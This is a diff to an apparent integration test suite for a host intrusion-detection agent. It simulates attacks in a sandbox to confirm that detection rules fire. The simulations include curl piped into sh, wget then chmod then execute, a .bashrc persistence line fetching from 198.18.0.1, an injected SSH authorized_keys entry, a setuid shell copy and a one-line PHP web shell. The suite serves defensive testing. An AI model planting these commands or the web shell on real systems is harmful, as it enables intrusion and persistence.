@@ -10,6 +10,7 @@ PID and every file, user and namespace is removed in ``finally`` blocks, also on
 from __future__ import annotations
 
 import contextlib
+import json
 import os
 import secrets
 import shutil
@@ -51,15 +52,21 @@ def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
     config = deep_merge(base_config(workdir, port), {
         "process": {"enabled": True, "fallback_polling": False, "cpu_sampling": False},
         "sockets": {"enabled": True, "interval_seconds": 1.0, "include_loopback": True},
-        "fim": {"enabled": False}, "auth_logs": {"enabled": False},
-        "web_logs": {"enabled": False}, "auditd": {"enabled": False},
+        "fim": {"enabled": True, "rescan_interval_seconds": 3600},
+        "auth_logs": {"enabled": False},
+        "web_logs": {"enabled": True, "paths": [str(workdir / "access.log")],
+                     "poll_interval_seconds": 0.2},
+        "auditd": {"enabled": False},
         "kernel_modules": {"enabled": False},
         "detection": {"rule_paths": [str(REPO / "rules")]},
     })
+    (workdir / "access.log").touch()
     proc = AgentProcess(workdir, config, port).start()
     try:
         proc.wait_for(lambda: proc.sample("vedette_process_exec_source", {"source": "audit"})
                       == 1.0, 15, "audit exec facts active")
+        proc.wait_for(lambda: (proc.sample("vedette_fim_files") or 0) > 0, 60, "FIM baseline")
+        time.sleep(1)  # inotify armed after the baseline
         yield proc
     finally:
         with contextlib.suppress(Exception):
@@ -117,6 +124,9 @@ def procs() -> Iterator[Procs]:
 
 
 def alerts_of(agent: AgentProcess, name: str, since: float = 0.0) -> list[dict[str, Any]]:
+    """Alerts of a rule first seen at or after ``since`` (less 5 ms: kernel audit times are
+    truncated to the millisecond)."""
+    since -= 0.005
     out = []
     for a in agent.alerts():
         if a.get("rule", {}).get("id") != RULE_IDS[name]:
@@ -249,3 +259,177 @@ def test_plain_ncat_listener_is_no_bind_shell_but_one_with_exec_is(
     ports = {a["vedette"]["group"].get("server.port")
              for a in alerts_of(agent, "shell_listening", t0)}
     assert with_exec in ports and plain not in ports, ports
+
+
+# -- downloads executed ---------------------------------------------------------------------
+
+@pytest.fixture
+def web(netns: str, procs: Procs, tmp_path: Path) -> tuple[str, Path]:
+    """A plain HTTP server on the attacker address inside the namespace."""
+    root = tmp_path / "srv"
+    root.mkdir()
+    port = 4000 + secrets.randbelow(2000)
+    procs.spawn(sys.executable, "-m", "http.server", "--bind", ATTACKER, "--directory",
+                str(root), str(port), ns=netns)
+    wait_port(netns, ATTACKER, port)
+    return f"http://{ATTACKER}:{port}", root
+
+
+def test_curl_piped_into_sh(agent: AgentProcess, netns: str, web: tuple[str, Path],
+                            procs: Procs) -> None:
+    need("curl")
+    base, root = web
+    (root / "x.sh").write_text("echo pwned >/dev/null\n")
+    t0 = time.time()
+    run = procs.spawn("sh", "-c", f"curl -s {base}/x.sh | sh", ns=netns)
+    assert run.wait(20) == 0
+    wait_alert(agent, "download_piped_to_interpreter", t0)
+
+
+def test_wget_chmod_and_run_a_script(agent: AgentProcess, netns: str, web: tuple[str, Path],
+                                     procs: Procs, tmp_path: Path) -> None:
+    need("wget")
+    base, root = web
+    (root / "x").write_text("#!/bin/sh\necho pwned >/dev/null\n")
+    target = tmp_path / "drop" / "x"  # under /tmp: pytest's temporary directory
+    target.parent.mkdir()
+    assert str(target).startswith("/tmp/")
+    t0 = time.time()
+    run = procs.spawn("sh", "-c", f"wget -q -O {target} {base}/x && chmod +x {target} && "
+                      f"{target}", ns=netns)
+    assert run.wait(20) == 0
+    agent.wait_for(lambda: any(a["vedette"]["group"].get("vedette.download.path")
+                               == str(target)
+                               for a in alerts_of(agent, "download_then_execute", t0)),
+                   15, "download_then_execute for the dropped file")
+
+
+def test_binary_deleted_while_running(agent: AgentProcess, procs: Procs,
+                                      tmp_path: Path) -> None:
+    binary = tmp_path / "kworker-x"
+    shutil.copy("/bin/sleep", binary)
+    t0 = time.time()
+    procs.spawn(str(binary), "60")
+    time.sleep(0.3)
+    binary.unlink()
+    agent.wait_for(lambda: any(a["vedette"]["group"].get("process.executable") == str(binary)
+                               for a in alerts_of(agent, "running_executable_deleted", t0)),
+                   25, "running_executable_deleted")
+
+
+# -- accounts, setuid, web shells -----------------------------------------------------------
+
+def test_useradd_then_persistence_in_the_new_home(agent: AgentProcess) -> None:
+    need("useradd", "userdel")
+    user = f"vdt{os.getpid() % 100000}{secrets.token_hex(2)}"
+    t0 = time.time()
+    subprocess.run(["useradd", "-m", "-s", "/bin/sh", user], check=True, timeout=30)
+    try:
+        wait_alert(agent, "new_user_account", t0)
+        home = Path(f"/home/{user}")
+        time.sleep(1.5)  # the passwd change is read and the new home watched
+        with (home / ".bashrc").open("a") as fh:
+            fh.write("curl -s http://198.18.0.1/x | sh\n")
+        ssh = home / ".ssh"
+        ssh.mkdir(mode=0o700)
+        (ssh / "authorized_keys").write_text("ssh-ed25519 AAAAC3Nza attacker\n")
+        agent.wait_for(lambda: any(a["vedette"]["group"].get("file.path") == f"{home}/.bashrc"
+                                   for a in alerts_of(agent, "shell_profile_modified", t0)),
+                       15, "the new user's .bashrc change")
+        agent.wait_for(lambda: any(
+            a["vedette"]["group"].get("file.path") == f"{home}/.ssh/authorized_keys"
+            for a in alerts_of(agent, "ssh_authorized_keys_modified", t0)), 15,
+            "authorized_keys")
+    finally:
+        subprocess.run(["userdel", "-r", "-f", user], check=False, timeout=30,
+                       capture_output=True)
+
+
+def test_chmod_setuid_on_a_copied_shell(agent: AgentProcess, tmp_path: Path) -> None:
+    copy = tmp_path / "sh"
+    shutil.copy("/bin/dash", copy)
+    t0 = time.time()
+    subprocess.run(["chmod", "u+s", str(copy)], check=True, timeout=10)
+    wait_alert(agent, "setuid_bit_set", t0)
+
+
+def test_web_shell_dropped_and_used(agent: AgentProcess) -> None:
+    created_www = not Path("/var/www").exists()
+    site = Path("/var/www") / f"vdt-{os.getpid() % 100000}{secrets.token_hex(2)}"
+    t0 = time.time()
+    try:
+        site.mkdir(parents=True)
+        (site / "shell.php").write_text("<?php system($_GET['cmd']); ?>\n")
+        agent.wait_for(lambda: any(a["vedette"]["group"].get("file.path") ==
+                                   f"{site}/shell.php"
+                                   for a in alerts_of(agent, "web_shell_file_created", t0)),
+                       15, "web_shell_file_created")
+        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
+        with (agent.workdir / "access.log").open("a") as fh:
+            fh.write(f'198.18.0.20 - - [{stamp}] "GET /{site.name}/shell.php?cmd=id HTTP/1.1" '
+                     '200 54 "-" "curl/7.88.1"\n')
+        wait_alert(agent, "web_shell_request", t0 - 5)
+    finally:
+        shutil.rmtree(site, ignore_errors=True)
+        if created_www:
+            shutil.rmtree("/var/www", ignore_errors=True)
+
+
+# -- benign counterparts: nothing above low -------------------------------------------------
+
+def _tiny_deb(workdir: Path, name: str) -> Path:
+    pkg = workdir / name
+    (pkg / "DEBIAN").mkdir(parents=True)
+    (pkg / "DEBIAN" / "control").write_text(
+        f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.org>\n"
+        "Description: vedette test package\n")
+    unit_dir = pkg / "usr" / "lib" / "systemd" / "system"
+    unit_dir.mkdir(parents=True)
+    for i in range(3):
+        (unit_dir / f"{name}-{i}.service").write_text(
+            "[Unit]\nDescription=test\n[Service]\nExecStart=/bin/true\n")
+    subprocess.run(["dpkg-deb", "--build", str(pkg), str(workdir / f"{name}.deb")],
+                   check=True, capture_output=True, timeout=60)
+    return workdir / f"{name}.deb"
+
+
+def test_benign_admin_and_developer_work_raises_nothing_above_low(
+        agent: AgentProcess, tmp_path: Path) -> None:
+    need("gcc", "tar", "dpkg-deb", "dpkg")
+    marker = f"vdtb{os.getpid() % 100000}{secrets.token_hex(2)}"
+    work = tmp_path / marker
+    build = work / "home" / "dev" / "build"
+    build.mkdir(parents=True)
+    t0 = time.time()
+    # a developer compiling and running a program in a build dir under /tmp
+    (build / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
+    subprocess.run(["gcc", "-o", str(build / "hello"), str(build / "hello.c")], check=True,
+                   timeout=120, cwd=build)
+    subprocess.run([str(build / "hello")], check=True, timeout=10, capture_output=True)
+    # a backup of /etc
+    subprocess.run(["tar", "czf", str(work / "etc-backup.tgz"), "-C", "/", "etc"],
+                   check=False, timeout=120, capture_output=True)
+    # logrotate of an application log with its own state file
+    if shutil.which("logrotate"):
+        log = work / "app.log"
+        log.write_text("line\n" * 100)
+        conf = work / "logrotate.conf"
+        conf.write_text(f"{log} {{\n  rotate 2\n  compress\n  missingok\n}}\n")
+        subprocess.run(["logrotate", "-f", "-s", str(work / "state"), str(conf)], check=True,
+                       timeout=60)
+    # a package with three systemd units installed and removed
+    name = f"{marker}-pkg"
+    deb = _tiny_deb(work, name)
+    try:
+        subprocess.run(["dpkg", "-i", str(deb)], check=True, capture_output=True, timeout=120)
+        time.sleep(2)
+    finally:
+        subprocess.run(["dpkg", "--purge", name], check=False, capture_output=True,
+                       timeout=120)
+    time.sleep(3)
+    ours = [a for a in agent.alerts() if _first_seen(a) >= t0
+            and a.get("event", {}).get("severity", 0) > LOW
+            and (marker in json.dumps(a) or "/usr/lib/systemd/system/" in json.dumps(a))]
+    assert ours == [], [(a["rule"]["name"], a["vedette"]["group"]) for a in ours]
+    folded = [a for a in alerts_of(agent, "package_transaction_files", t0)]
+    assert folded, "the package's units are reported once, as low"
